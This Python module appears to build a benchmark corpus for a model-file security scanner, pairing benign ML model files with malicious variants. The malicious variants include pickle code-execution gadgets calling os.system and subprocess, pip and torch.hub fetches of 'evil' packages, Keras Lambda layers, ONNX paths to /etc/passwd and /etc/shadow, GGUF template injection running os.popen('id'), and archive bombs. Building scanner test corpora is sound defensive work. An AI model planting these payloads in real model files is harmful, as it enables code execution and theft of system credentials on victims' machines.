"""The scanning corpus: benign files made with the real libraries, and malicious variants.

``build_corpus()`` returns every sample in memory; ``write_corpus(folder)`` writes them out
(the benchmark runs peers on that folder). Malicious samples cover each technique class of
the public advisories (named in ``technique``); none of them is ever loaded.
"""

from __future__ import annotations

import io
import pickle
import zipfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from tests.scanning import _build as b

ECHO = "echo sai-corpus"


@dataclass(frozen=True)
class Sample:
    name: str
    data: bytes
    malicious: bool
    technique: str


def _sklearn_models() -> list[tuple[str, object]]:
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    x = rng.normal(size=(80, 4))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    return [
        ("pipeline", make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)),
        ("forest", RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y)),
        ("gboost", GradientBoostingClassifier(n_estimators=3, random_state=0).fit(x, y)),
        ("tree", DecisionTreeClassifier(random_state=0).fit(x, y)),
    ]


def _npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def benign() -> list[Sample]:
    import joblib

    out: list[Sample] = []
    for name, model in _sklearn_models():
        for protocol in range(6):
            out.append(
                Sample(
                    f"benign/{name}.p{protocol}.pkl",
                    pickle.dumps(model, protocol),
                    False,
                    "sklearn pickle",
                )
            )
        for compress in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)):
            buffer = io.BytesIO()
            joblib.dump(model, buffer, compress=compress)
            label = compress[0] if compress else "raw"
            out.append(Sample(f"benign/{name}.{label}.joblib", buffer.getvalue(), False, "joblib"))
    values = {
        "dict": {"a": [1, 2.5, "x"], "b": (None, True), "c": {1, 2}, "d": b"bytes"},
        "arrays": {"w": np.arange(12.0).reshape(3, 4), "s": np.array(["ab", "c"])},
        "struct": np.zeros(3, dtype=[("a", "f4"), ("b", "i8")]),
        "rng": np.random.default_rng(3),
    }
    for name, value in values.items():
        for protocol in range(6):
            out.append(
                Sample(
                    f"benign/{name}.p{protocol}.pkl",
                    pickle.dumps(value, protocol),
                    False,
                    "python values",
                )
            )
    buffer = io.BytesIO()
    joblib.dump({"w": np.arange(10.0), "o": np.array([1, "x"], dtype=object)}, buffer)
    out.append(Sample("benign/object-array.joblib", buffer.getvalue(), False, "joblib objects"))
    for name, array in {"f": np.arange(6.0), "i": np.eye(3, dtype="i4")}.items():
        buffer = io.BytesIO()
        np.save(buffer, array)
        out.append(Sample(f"benign/{name}.npy", buffer.getvalue(), False, "numpy"))
    buffer = io.BytesIO()
    np.savez_compressed(buffer, a=np.arange(4.0), b=np.ones((2, 2)))
    out.append(Sample("benign/arrays.npz", buffer.getvalue(), False, "numpy"))
    buffer = io.BytesIO()
    np.save(buffer, np.array([{"a": 1}, [1, 2]], dtype=object), allow_pickle=True)
    out.append(Sample("benign/objects.npy", buffer.getvalue(), False, "numpy objects"))
    state = b.torch_state_dict_pickle({"fc.weight": (2, 3), "fc.bias": (2,)})
    storages = {"0": b"\x00" * 24, "1": b"\x00" * 8}
    out += [
        Sample("benign/state_dict.pt", b.torch_zip(state, storages), False, "pytorch zip"),
        Sample(
            "benign/state_dict_deflate.pt",
            b.torch_zip(state, storages, prefix="model", method=zipfile.ZIP_DEFLATED),
            False,
            "pytorch zip",
        ),
        Sample(
            "benign/legacy.pt",
            b.torch_legacy(b.torch_state_dict_pickle({"w": (2,)})),
            False,
            "pytorch legacy",
        ),
        Sample(
            "benign/script.pt",
            b.torchscript_zip(
                b.proto(2, b.global0("__torch__", "Model") + b")\x81}b."),
                "def forward(self, x):\n    return torch.ops.aten.relu(x)\n",
            ),
            False,
            "torchscript",
        ),
        Sample(
            "benign/state_dict.pt.gz",
            b.nested(b.torch_zip(state, storages), "m.pt", ("gz",)),
            False,
            "gzip",
        ),
        Sample("benign/model.tar", b.nested(pickle.dumps([1, 2]), "m.pkl", ("tar",)), False, "tar"),
        Sample(
            "benign/bundle.zip",
            b.nested(b.safetensors({}, b""), "w.safetensors", ("zip",)),
            False,
            "zip",
        ),
        Sample(
            "benign/model.tar.bz2",
            b.nested(pickle.dumps({"k": 1}), "m.pkl", ("tar", "bz2")),
            False,
            "tar+bz2",
        ),
        Sample(
            "benign/model.keras",
            b.keras_zip(
                b.keras_sequential(
                    b.keras_layer("InputLayer", batch_shape=[None, 4]),
                    b.keras_layer(
                        "Dense",
                        units=2,
                        kernel_initializer={
                            "module": "keras.initializers",
                            "class_name": "GlorotUniform",
                            "config": {},
                        },
                    ),
                )
            ),
            False,
            "keras",
        ),
        Sample(
            "benign/legacy.h5",
            b.hdf5_keras(
                {
                    "class_name": "Sequential",
                    "config": {"layers": [{"class_name": "Dense", "config": {"units": 2}}]},
                },
                {"loss": "mse", "optimizer_config": {"class_name": "Adam", "config": {}}},
            ),
            False,
            "keras h5",
        ),
        Sample("benign/weights.h5", b.hdf5_keras(None), False, "hdf5"),
        Sample(
            "benign/arrays.7z",
            b.sevenzip({"f.npy": _npy(np.arange(6.0)), "nested/i.npy": _npy(np.eye(3))}),
            False,
            "7z",
        ),
        Sample(
            "benign/state_dict.7z",
            b.sevenzip({"model.pt": b.torch_zip(state, storages)}),
            False,
            "7z",
        ),
        Sample("benign/model.onnx", b.onnx_model(), False, "onnx"),
        Sample(
            "benign/model.gguf",
            b.gguf(
                "{% for message in messages %}{{ '<|' + message['role'] + '|>' + "
                "message['content'] | trim }}{% endfor %}{% if add_generation_prompt %}"
                "{{ '<|assistant|>' }}{% endif %}"
            ),
            False,
            "gguf",
        ),
        Sample(
            "benign/model.safetensors",
            b.safetensors(
                {
                    "__metadata__": {"format": "pt"},
                    "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                    "b": {"dtype": "I64", "shape": [1], "data_offsets": [16, 24]},
                },
                b"\x00" * 24,
            ),
            False,
            "safetensors",
        ),
    ]
    return out


def _payloads() -> list[tuple[str, bytes, str]]:
    """Raw malicious pickles, each a technique class."""
    p = b.proto
    return [
        ("os-system-p0", b.call_pickle("os", "system", ECHO, 0), "GLOBAL+REDUCE"),
        ("posix-system-p2", b.call_pickle("posix", "system", ECHO), "GLOBAL+REDUCE"),
        ("builtins-eval", b.call_pickle("builtins", "eval", "1+1"), "eval"),
        ("builtin-compat", b.call_pickle("__builtin__", "exec", "pass"), "py2 name mapping"),
        ("stack-global", b.stack_global_call("subprocess", "getoutput", ECHO), "STACK_GLOBAL"),
        (
            "stack-global-memo",
            p(
                4,
                b.sbu("os")
                + b"\x94"
                + b.sbu("system")
                + b"\x94"
                + b"h\x00h\x01\x93"
                + b.sbu(ECHO)
                + b"\x85R.",
            ),
            "STACK_GLOBAL from memo",
        ),
        (
            "stack-global-binstring",
            p(4, b"U\x02osU\x06system\x93" + b.sbu(ECHO) + b"\x85R."),
            "STACK_GLOBAL from BINSTRING",
        ),
        (
            "stack-global-unicode",
            p(4, b"Vos\nVsystem\n\x93" + b.sbu(ECHO) + b"\x85R."),
            "STACK_GLOBAL from UNICODE",
        ),
        (
            "stack-global-computed",
            p(
                4,
                b.global0("builtins", "str")
                + b")R"
                + b.sbu("system")
                + b"\x93"
                + b.sbu(ECHO)
                + b"\x85R.",
            ),
            "computed STACK_GLOBAL operand",
        ),
        ("inst", b"(S'" + ECHO.encode() + b"'\nios\nsystem\n.", "INST"),
        ("obj", b"(cos\nsystem\nS'" + ECHO.encode() + b"'\no.", "OBJ"),
        (
            "newobj",
            p(2, b.global0("subprocess", "Popen") + b"(" + b.sbu("ls") + b"\x85t\x81."),
            "NEWOBJ",
        ),
        (
            "newobj-ex",
            p(4, b.global0("subprocess", "Popen") + b.sbu("ls") + b"\x85}\x92."),
            "NEWOBJ_EX",
        ),
        (
            "build-setstate",
            p(
                2,
                b.global0("collections", "OrderedDict")
                + b")R}"
                + b.sbu("__setstate__")
                + b.global0("os", "system")
                + b"sb.",
            ),
            "BUILD __setstate__",
        ),
        (
            "build-on-global",
            p(2, b.global0("collections", "OrderedDict") + b"}" + b.sbu("fromkeys") + b"K\x01sb."),
            "BUILD on a class",
        ),
        ("ext1", p(2, b"\x82\x01)R."), "EXT1"),
        ("ext2", p(2, b"\x83\x01\x02)R."), "EXT2"),
        ("ext4", p(2, b"\x84\x01\x02\x03\x04)R."), "EXT4"),
        (
            "nested-pickle",
            p(
                3,
                b.global0("pickle", "loads")
                + b"C"
                + bytes([len(inner := b.call_pickle("os", "system", ECHO))])
                + inner
                + b"\x85R.",
            ),
            "nested pickle",
        ),
        (
            "second-pickle",
            pickle.dumps({"ok": 1}, 2) + b.call_pickle("os", "system", ECHO),
            "two pickles in one stream",
        ),
        (
            "broken-after-payload",
            b.call_pickle("os", "system", ECHO)[:-1] + b"\xff",
            "nullifAI broken pickle",
        ),
        ("truncated-after-payload", b.call_pickle("os", "system", ECHO)[:-2], "truncated stream"),
        ("pip-main", b.call_pickle("pip", "main", "install evil"), "CVE-2025-1716"),
        ("runpy", b.call_pickle("runpy", "_run_code", "print(1)"), "runpy gadget"),
        ("timeit", b.call_pickle("timeit", "timeit", "print(1)"), "timeit gadget"),
        ("pydoc-locate", b.call_pickle("pydoc", "locate", "os.system"), "pydoc gadget"),
        (
            "operator-methodcaller",
            b.call_pickle("operator", "methodcaller", "system"),
            "operator gadget",
        ),
        ("functools-partial", b.call_pickle("functools", "partial", "x"), "functools gadget"),
        ("torch-hub", b.call_pickle("torch.hub", "load", "evil/repo"), "torch.hub gadget"),
        (
            "numpy-runstring",
            b.call_pickle("numpy.testing._private.utils", "runstring", "import os"),
            "numpy gadget",
        ),
        (
            "asyncio-subprocess",
            b.call_pickle("asyncio.unix_events", "_UnixSubprocessTransport", "x"),
            "CVE-2025-10157 subclass",
        ),
        (
            "dotted-traversal",
            p(
                4,
                b.sbu("torch")
                + b.sbu("serialization.os.system")
                + b"\x93"
                + b.sbu(ECHO)
                + b"\x85R.",
            ),
            "dotted name traversal",
        ),
        (
            "allowed-module-bad-name",
            b.call_pickle("collections", "_sys", "x"),
            "allowed module, other name",
        ),
        (
            "getattr-chain",
            p(
                2,
                b.global0("builtins", "getattr")
                + b"("
                + b.global0("builtins", "__import__")
                + b.sbu("os")
                + b"\x85R"
                + b.sbu("system")
                + b"tR"
                + b.sbu(ECHO)
                + b"\x85R.",
            ),
            "getattr gadget",
        ),
        (
            "call-computed",
            p(2, b.global0("collections", "OrderedDict") + b")R)R."),
            "call of a call result",
        ),
        (
            "mutate-global",
            p(2, b.global0("collections", "OrderedDict") + b.sbu("k") + b.sbu("v") + b"s."),
            "SETITEM on a class",
        ),
        ("persistent-id-raw", p(2, b.sbu("x") + b"Q."), "persistent id in a plain pickle"),
        (
            "frame-lie",
            p(4, b"\x95\xff\xff\x00\x00\x00\x00\x00\x00" + b.call_pickle("os", "system", ECHO)[2:]),
            "bad FRAME",
        ),
        ("proto-6", b"\x80\x06" + b.call_pickle("os", "system")[2:], "unsupported protocol"),
    ]


def malicious() -> list[Sample]:
    out = [Sample(f"malicious/{name}.pkl", data, True, tech) for name, data, tech in _payloads()]
    evil = b.call_pickle("os", "system", ECHO)
    evil_state = b.torch_state_dict_pickle({"w": (2,)}).replace(
        b"u.", b"u" + b.global0("os", "system") + b.sbu(ECHO) + b"\x85R0."
    )
    storages = {"0": b"\x00" * 8}
    import joblib

    buffer = io.BytesIO()
    joblib.dump({"w": np.arange(4.0)}, buffer)
    joblib_evil = buffer.getvalue()
    joblib_evil = joblib_evil[:-1] + b"0" + evil[2:]  # pop result, then payload
    objects = io.BytesIO()
    joblib.dump({"o": np.array([1, "x"], dtype=object)}, objects)
    raw = objects.getvalue()
    cut = raw.rfind(b"\x80\x05")
    joblib_objects = raw[:cut] + evil + b"0."
    out += [
        Sample("malicious/bin-extension.bin", evil, True, "CVE-2025-10155 extension"),
        Sample("malicious/no-extension", evil, True, "CVE-2025-1889 extension"),
        Sample("malicious/torch.pt", b.torch_zip(evil_state, storages), True, "pytorch zip"),
        Sample(
            "malicious/torch-prefix.pt",
            b.torch_zip(evil, prefix="weird-name"),
            True,
            "pytorch zip other folder",
        ),
        Sample(
            "malicious/torch-deflate.pt",
            b.torch_zip(evil, method=zipfile.ZIP_DEFLATED),
            True,
            "pytorch zip deflate",
        ),
        Sample("malicious/torch-bad-crc.pt", b.zip_bad_crc(evil), True, "CVE-2025-10156 CRC"),
        Sample("malicious/torch-flags.pt", b.zip_flag_bits(evil), True, "CVE-2025-1945 flags"),
        Sample(
            "malicious/torch-name-mismatch.pt",
            b.zip_name_mismatch(evil),
            True,
            "CVE-2025-1944 names",
        ),
        Sample("malicious/torch-hidden.pt", b.zip_hidden_member(evil), True, "hidden member"),
        Sample("malicious/torch-legacy.pt", b.torch_legacy(evil), True, "pytorch legacy"),
        Sample(
            "malicious/torchscript.pt",
            b.torchscript_zip(evil, "def f(x):\n  return x\n"),
            True,
            "torchscript data.pkl",
        ),
        Sample(
            "malicious/torchscript-op.pt",
            b.torchscript_zip(
                b.proto(2, b.global0("__torch__", "M") + b")\x81}b."),
                "def forward(self, x):\n    return torch.ops.evil_ns.run(x)\n",
            ),
            True,
            "torchscript custom op",
        ),
        Sample("malicious/joblib-tail.joblib", joblib_evil, True, "joblib payload after array"),
        Sample("malicious/joblib-objects.joblib", joblib_objects, True, "joblib object array"),
        Sample("malicious/joblib.gz", b.nested(joblib_evil, "m", ("gz",)), True, "joblib gzip"),
        Sample("malicious/objects.npy", b.npy("|O", (1,), evil), True, "npy object array"),
        Sample(
            "malicious/arrays.npz",
            b.nested(b.npy("|O", (1,), evil), "a.npy", ("zip",)),
            True,
            "npz object array",
        ),
        Sample(
            "malicious/deep.tar.xz",
            b.nested(evil, "m.pkl", ("zip", "tar", "zip", "xz")),
            True,
            "nested archives",
        ),
        Sample("malicious/model.zlib", b.nested(evil, "m", ("zlib",)), True, "zlib"),
        Sample("malicious/model.bz2", b.nested(evil, "m", ("bz2",)), True, "bz2"),
        Sample("malicious/bomb.zip", b.zip_bomb(64 << 20), True, "zip bomb"),
        Sample("malicious/model.7z", b.sevenzip({"model.pkl": evil}), True, "7z pickle"),
        Sample(
            "malicious/arrays.7z",
            b.sevenzip(
                {"ok.npy": b.npy("<f8", (1,), b"\x00" * 8), "o.npy": b.npy("|O", (1,), evil)}
            ),
            True,
            "7z npy object array",
        ),
        Sample(
            "malicious/nested.7z",
            b.sevenzip({"m.pt.zip": b.nested(b.torch_zip(evil), "m.pt", ("zip",))}),
            True,
            "7z nested archives",
        ),
        Sample("malicious/encrypted.7z", b.sevenzip({"m.pkl": evil}, "x"), True, "7z encrypted"),
        Sample(
            "malicious/bomb.7z", b.sevenzip({"bomb.pkl": b"\x00" * (64 << 20)}), True, "7z bomb"
        ),
        Sample("malicious/truncated.7z", b.sevenzip({"m.pkl": evil})[:-20], True, "7z truncated"),
        Sample(
            "malicious/lambda.keras",
            b.keras_zip(
                b.keras_sequential(
                    b.keras_layer(
                        "Lambda",
                        function={"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}},
                    )
                )
            ),
            True,
            "CVE-2024-3660 Lambda",
        ),
        Sample(
            "malicious/os-module.keras",
            b.keras_zip(b.keras_sequential(b.keras_layer("system", module="os"))),
            True,
            "CVE-2025-1550 module",
        ),
        Sample(
            "malicious/get-file.keras",
            b.keras_zip(b.keras_sequential(b.keras_layer("get_file", module="keras.utils"))),
            True,
            "CVE-2025-8747 gadget",
        ),
        Sample(
            "malicious/unsafe-config.keras",
            b.keras_zip(
                b.keras_sequential(
                    b.keras_layer("enable_unsafe_deserialization", module="keras.config")
                )
            ),
            True,
            "CVE-2025-9906",
        ),
        Sample(
            "malicious/lambda.h5",
            b.hdf5_keras(
                {
                    "class_name": "Sequential",
                    "config": {
                        "layers": [
                            {
                                "class_name": "Lambda",
                                "config": {
                                    "name": "lambda",
                                    "function": [b.keras_lambda_blob(), None, None],
                                    "function_type": "lambda",
                                },
                            }
                        ]
                    },
                }
            ),
            True,
            "CVE-2025-9905 h5 Lambda",
        ),
        Sample(
            "malicious/lambda-corrupt.h5",
            b.hdf5_with_config(
                {
                    "class_name": "Sequential",
                    "config": {
                        "layers": [
                            {
                                "class_name": "Lambda",
                                "config": {
                                    "name": "lambda",
                                    "function": [b.keras_lambda_blob(), None, None],
                                    "function_type": "lambda",
                                },
                            }
                        ]
                    },
                }
            ),
            True,
            "h5 Lambda in an unreadable file",
        ),
        Sample(
            "malicious/training-loss.h5",
            b.hdf5_keras(
                {"class_name": "Sequential", "config": {"layers": []}},
                {"loss": {"module": "os", "class_name": "system", "config": {}}},
            ),
            True,
            "h5 training_config module",
        ),
        Sample(
            "malicious/tf-op-lambda.h5",
            b.hdf5_keras(
                {
                    "class_name": "Functional",
                    "config": {
                        "layers": [
                            {
                                "class_name": "TFOpLambda",
                                "config": {"name": "tf.io.write_file", "function": "io.write_file"},
                            }
                        ]
                    },
                }
            ),
            True,
            "CVE-2025-9906 TFOpLambda",
        ),
        Sample(
            "malicious/slicing-op-lambda.keras",
            b.keras_zip(
                b.keras_sequential(
                    b.keras_layer("SlicingOpLambda", function="__operators__.getitem")
                )
            ),
            True,
            "SlicingOpLambda",
        ),
        Sample(
            "malicious/custom-domain.onnx", b.onnx_model(domain="com.evil"), True, "onnx custom op"
        ),
        Sample(
            "malicious/traversal.onnx",
            b.onnx_model(location="../../etc/passwd"),
            True,
            "CVE-2022-25882",
        ),
        Sample(
            "malicious/absolute.onnx", b.onnx_model(location="/etc/shadow"), True, "CVE-2024-27318"
        ),
        Sample(
            "malicious/template.gguf",
            b.gguf("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
            True,
            "CVE-2024-34359",
        ),
        Sample(
            "malicious/template-lipsum.gguf",
            b.gguf("{{ lipsum.__globals__['os'].popen('id').read() }}"),
            True,
            "SSTI lipsum",
        ),
        Sample(
            "malicious/bad-header.gguf",
            b.gguf(None, tensor_count=1, bad_offset=True),
            True,
            "gguf offsets",
        ),
        Sample(
            "malicious/huge-count.gguf",
            b"GGUF" + (3).to_bytes(4, "little") + (1 << 60).to_bytes(8, "little") + b"\x00" * 8,
            True,
            "gguf counts",
        ),
        Sample(
            "malicious/overlap.safetensors",
            b.safetensors(
                {
                    "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                    "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
                },
                b"\x00" * 12,
            ),
            True,
            "safetensors overlap",
        ),
        Sample(
            "malicious/out-of-range.safetensors",
            b.safetensors(
                {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, b"\x00" * 8
            ),
            True,
            "safetensors out of range",
        ),
        Sample(
            "malicious/trailing.safetensors",
            b.safetensors(
                {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\x00" * 4 + evil
            ),
            True,
            "safetensors polyglot",
        ),
        Sample(
            "malicious/dtype-shape.safetensors",
            b.safetensors(
                {"a": {"dtype": "F64", "shape": [3], "data_offsets": [0, 8]}}, b"\x00" * 8
            ),
            True,
            "safetensors size mismatch",
        ),
        Sample(
            "malicious/bad-json.safetensors",
            b.safetensors('{"a": {"dtype": "F32",', b"\x00" * 8),
            True,
            "safetensors JSON",
        ),
        Sample(
            "malicious/duplicate-key.safetensors",
            b.safetensors(
                '{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, '
                '"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}',
                b"\x00" * 4,
            ),
            True,
            "safetensors duplicate key",
        ),
    ]
    return out


def build_corpus() -> list[Sample]:
    """Every benign and malicious sample."""
    return benign() + malicious()


def write_corpus(folder: Path) -> list[tuple[Path, Sample]]:
    """Write the corpus under ``folder``; returns each file with its sample."""
    written = []
    for sample in build_corpus():
        path = folder / sample.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(sample.data)
        written.append((path, sample))
    return written


if __name__ == "__main__":
    import sys

    for path, _ in write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")):
        print(path)
